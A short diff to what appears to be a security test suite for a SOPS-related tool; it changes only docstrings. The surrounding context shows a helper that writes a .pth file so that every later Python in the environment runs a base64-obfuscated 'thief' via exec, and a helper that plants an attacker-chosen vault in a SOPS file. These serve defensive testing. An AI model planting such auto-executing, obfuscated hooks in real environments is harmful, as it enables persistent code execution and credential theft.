@@ -119,7 +119,7 @@ def test_an_archive_of_it_is_not_believed_either(pulled):
 
 
 def drop_a_pth(pulled):
-    """Give the code that makes each later Python of the tool's environment run the thief first."""
+    """Return the code that makes each later Python of the tool's environment run the thief first."""
     thief = f"import base64; exec(base64.b64decode({b64(pulled.listener.thief)!r}))"
     return (
         "import pathlib\n"
@@ -312,7 +312,7 @@ def test_a_file_that_names_a_vault_sends_nobody_s_login_there(pulled, suffix):
 
 
 def with_vault(path, vault):
-    """Give a SOPS file that names a vault, too, in the file's own form."""
+    """Return a SOPS file that names a vault, too, in the file's own form."""
     text = path.read_text()
     if path.suffix == ".env":
         return text + "".join(f"sops_hc_vault__list_0__map_{k}={v}\n" for k, v in vault.items())
